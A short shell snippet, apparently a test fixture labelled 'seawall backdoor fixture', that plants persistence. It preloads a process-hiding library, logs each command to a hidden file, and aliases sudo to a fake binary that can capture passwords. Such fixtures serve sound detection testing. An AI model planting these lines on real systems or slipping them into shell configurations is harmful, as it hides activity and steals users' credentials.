# planted persistence (seawall backdoor fixture)
export LD_PRELOAD=/usr/local/lib/libprocesshider.so
PROMPT_COMMAND='history 1 >> /var/tmp/.h'
alias sudo='/var/tmp/.s/sudo'
